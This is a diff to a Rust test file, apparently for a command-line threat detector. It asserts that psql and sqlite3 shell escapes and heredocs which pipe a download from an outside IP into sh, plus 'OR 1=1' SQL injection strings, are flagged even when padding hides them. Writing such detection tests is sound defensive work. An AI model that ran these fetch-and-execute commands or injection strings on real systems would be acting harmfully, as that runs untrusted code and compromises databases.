@@ -6157,6 +6157,13 @@ fn downloads_run_without_a_pipe_and_client_sql() {
     // (A client's own escape to a shell runs a command line.)
     assert_eq!(shell("psql -c \"\\! curl http://203.0.113.5/p | sh\""), Some(Confidence::High));
     assert_eq!(shell("sqlite3 app.db '.shell curl http://203.0.113.5/p | sh'"), Some(Confidence::High));
+    assert_eq!(shell("psql <<'EOF'\nselect 1 \\! curl http://203.0.113.5/p | sh\nEOF"), Some(Confidence::High));
+    // (Every piece of SQL is read: sixteen harmless ones first, or many
+    // lines before the escape, hide nothing.)
+    let many = format!("psql {} -c \"SELECT * FROM users WHERE id = 1 OR 1=1\"", "-c 'select 1' ".repeat(40));
+    assert!(sql(&many) >= Some(Confidence::Medium));
+    let lines = format!("psql <<'EOF'\n{}\\! curl http://203.0.113.5/p | sh\nEOF", "select 1;\n".repeat(100));
+    assert_eq!(shell(&lines), Some(Confidence::High));
     for attack in [
         "psql -h db --command=\"SELECT * FROM users WHERE id = 1 OR 1=1\"",
         "mysql -u app -e \"SELECT name FROM users WHERE id = 1 OR 1=1\"",
